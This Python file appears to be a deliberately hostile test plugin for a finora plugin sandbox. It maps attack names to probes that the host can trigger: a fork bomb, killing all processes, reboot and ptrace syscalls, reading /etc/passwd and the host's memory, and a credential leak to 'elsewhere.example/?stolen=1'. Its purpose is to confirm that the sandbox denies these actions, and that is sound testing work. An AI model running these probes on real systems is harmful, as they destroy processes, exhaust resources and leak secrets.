"""A plugin that tries whatever a stranger's code may try. It is asked for an attack by its name and
answers with what came of it."""

import ctypes
import fcntl
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import attrs

from finora_core.kernel.outcome import Ok
from finora_core.plugins import (
    Access,
    Identified,
    NoAnswer,
    StatementAccount,
    StatementLine,
    StatementRefused,
    hookimpl,
)

libc = ctypes.CDLL(None, use_errno=True)
CHANNELS = range(3, 1_000)


def call(number, *arguments):
    """A call of the kernel, past everything of Python's. Numbers are those of x86_64, and mean
    something else, that is denied as well, on aarch64."""
    if libc.syscall(number, *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def say(data):
    """Past the frames, into every descriptor that there is."""
    for channel in CHANNELS:
        try:
            os.write(channel, data)
        except OSError:
            continue


def dial(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as there:
        there.connect(address)
    return "connected"


def read(path):
    return Path(path).read_text()[:20]


def write(path):
    Path(path).write_text("mine")
    return "written"


def flood_of_denied():
    for n in range(5_000):
        os.path.exists(f"/etc/{n}")
    return "still here"


def flood_of_looks():
    while True:
        os.stat(os.__file__)


def from_inside(path):
    """From a folder that may be read, by its descriptor."""
    folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 20)


def run_bytes(how):
    if how == "mapped":
        mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    else:
        page = mmap.mmap(-1, 4096)
        at = ctypes.addressof(ctypes.c_char.from_buffer(page))
        if libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), 5) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "memory to run"


def code_over_a_library():
    with open(next(Path(p) for p in sys.path if p.endswith("lib-dynload")).glob("_*.so").__next__(),
              "rb") as library:  # fmt: skip
        mmap.mmap(library.fileno(), 4096, flags=mmap.MAP_PRIVATE,
                  prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)  # fmt: skip
    return "memory to run"


def signal_by_descriptor():
    fcntl.fcntl(CHANNELS[0], fcntl.F_SETOWN, os.getppid())
    return "aimed at the host"


def threads():
    thread = threading.Thread(target=time.sleep, args=(0,))
    thread.start()
    return "a thread"


def fork():
    if os.fork() == 0:
        os._exit(0)
    return "forked"


def fork_bomb():
    while True:
        os.fork()


def memory():
    held = []
    while True:
        held.append(bytearray(32 << 20))


def descriptors():
    held = []
    while True:
        held.append(os.dup(0))


def processor():
    while True:
        pass


def kept_secrets(given):
    return f"{given.credentials['key']} {given.credentials['account']}"


ATTACKS = {
    "read": read,
    "write": write,
    "list": lambda path: " ".join(os.listdir(path)),
    "look": lambda path: os.stat(path).st_size,
    "link": os.readlink,
    "environment": lambda: " ".join(sorted(os.environ)),
    "from_inside": from_inside,
    "symlink": lambda path: os.symlink("/etc/passwd", path),
    "hard_link": lambda path: os.link(os.__file__, path),
    "rename": lambda path: os.rename(__file__, path),
    "remove": lambda: os.unlink(__file__),
    "folder": os.mkdir,
    "mode": lambda: os.chmod(__file__, 0o777),
    "change_folder": os.chdir,
    "change_root": os.chroot,
    "own_code": lambda: write(__file__),
    "inet": lambda port: dial(socket.AF_INET, ("127.0.0.1", int(port))),
    "inet6": lambda: dial(socket.AF_INET6, ("::1", 80)),
    "unix": lambda path: dial(socket.AF_UNIX, path),
    "abstract": lambda: dial(socket.AF_UNIX, "\0finora"),
    "datagram": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close(),
    "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close(),
    "name": lambda: socket.create_connection(("finora.example", 443)),
    "pair": socket.socketpair,
    "fork": fork,
    "fork_bomb": fork_bomb,
    "thread": threads,
    "run": lambda: subprocess.run(["/bin/true"], check=True),
    "shell": lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}),
    "exec": lambda: os.execv("/bin/true", ["true"]),
    "kill_host": lambda: os.kill(os.getppid(), signal.SIGKILL),
    "kill_all": lambda: os.kill(-1, signal.SIGKILL),
    "signal_by_descriptor": signal_by_descriptor,
    "trace_host": lambda: call(101, 16, os.getppid(), 0, 0),
    "read_host": lambda: call(310, os.getppid(), 0, 0, 0, 0, 0),
    "host_memory": lambda: read(f"/proc/{os.getppid()}/mem"),
    "host_environment": lambda: read(f"/proc/{os.getppid()}/environ"),
    "own_memory": lambda: write("/proc/self/mem"),
    "socket_by_number": lambda: call(41, 2, 1, 0),
    "exec_by_number": lambda: call(59, 0, 0, 0),
    "other_table": lambda: call(0x40000000 | 41, 2, 1, 0),
    "mount": lambda: call(165, 0, 0, 0, 0, 0),
    "namespace": lambda: call(272, 0x10000000),
    "join": lambda: call(308, 0, 0),
    "root": lambda: os.setuid(0),
    "powers": lambda: call(126, 0, 0),
    "outlive": lambda: call(157, 1, 0, 0, 0, 0),
    "limits": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)),
    "filter": lambda: call(317, 1, 0, 0),
    "kernel_program": lambda: call(321, 0, 0, 0),
    "ring": lambda: call(425, 8, 0),
    "keys": lambda: call(250, 0, 0, 0),
    "shared": lambda: call(29, 0, 4096, 0o1600),
    "memory_file": lambda: os.memfd_create("x"),
    "run_bytes": run_bytes,
    "code_over_a_library": code_over_a_library,
    "reboot": lambda: call(169, 0, 0, 0, 0),
    "memory": memory,
    "descriptors": descriptors,
    "processor": processor,
    "sleep": lambda: time.sleep(10**6),
    "flood_of_denied": flood_of_denied,
    "flood_of_looks": flood_of_looks,
    "leave": lambda: os._exit(0),
    "abort": os.abort,
    "crash": lambda: ctypes.string_at(0),
    "no_frame": lambda: say(struct.pack("!I", 4) + b"nope"),
    "no_object": lambda: say(struct.pack("!I", 2) + b"[]"),
    "deep": lambda: say(struct.pack("!I", 400_000) + b"[" * 400_000),
    "endless_frame": lambda: say(struct.pack("!I", 0xFFFFFFFF)),
    "other_words": lambda: say(struct.pack("!I", 12) + b'{"exec":"x"}'),
    "no_answer": lambda: say(struct.pack("!I", 12) + b'{"answer":1}'),
}  # fmt: skip


@attrs.frozen
class Assets:
    access: Access
    name = "hostile"

    def find(self, text):
        attack, _, argument = text.partition(" ")
        if attack in ("secrets", "elsewhere", "flood", "chatter", "giant", "odd", "raise", "exit"):
            return self._at_the_host(attack)
        try:
            came = ATTACKS[attack](argument) if argument else ATTACKS[attack]()
        except OSError as error:
            came = f"denied: {error}"
        return Ok([Identified(name="x", symbol="x", title=str(came), kind="other")])

    def _at_the_host(self, attack):
        title = "x"
        if attack == "secrets":
            title = kept_secrets(self.access)
            sent = {"X-Key": self.access.credentials["key"]}
            reply = self.access.http.get("/echo", sent, again=self.access.credentials["key"])
            title = f"{title} {reply.body.decode()}"
        elif attack == "elsewhere":
            self.access.http.get("https://elsewhere.example/?stolen=1")
        elif attack == "flood":
            for n in range(1_000):
                try:
                    self.access.http.get(f"/{n}")
                except NoAnswer:
                    continue
        elif attack == "chatter":
            while True:
                self.access.log("x" * 10_000)
        elif attack == "giant":
            title = "x" * (20 << 20)
        elif attack == "odd":
            return Ok([Identified(name="x", symbol="x", title=1, kind="other")])
        elif attack == "raise":
            raise Exception("mine")
        elif attack == "exit":
            raise SystemExit
        return Ok([Identified(name="x", symbol="x", title=title, kind="other")])


class Lines:
    """A statement format that does what the file says."""

    name = "hostile"

    def recognises(self, head, filename):
        return {b"sure": 50, b"odd": 1000, b"text": "50"}.get(head, 0)

    def layout(self, head):
        return None

    def read(self, file, answers):
        yield StatementAccount(number="1", asset="EUR")
        said = file.readline().strip()
        if said == b"refuse":
            raise StatementRefused("no")
        if said == b"die":
            os._exit(7)
        if said == b"lie":
            yield StatementLine(place="1", date="today", amount="1")
        if said == b"sleep":
            time.sleep(10**6)
        if said == b"http":
            say(struct.pack("!I", 11) + b'{"http":{}}')
            time.sleep(10**6)
        if said == b"steal":
            yield StatementLine(place=1, date=ATTACKS["read"]("/etc/passwd"), amount="1")


@hookimpl
def register_assets(register):
    register(Assets)


@hookimpl
def register_statement_formats(register):
    register(Lines())
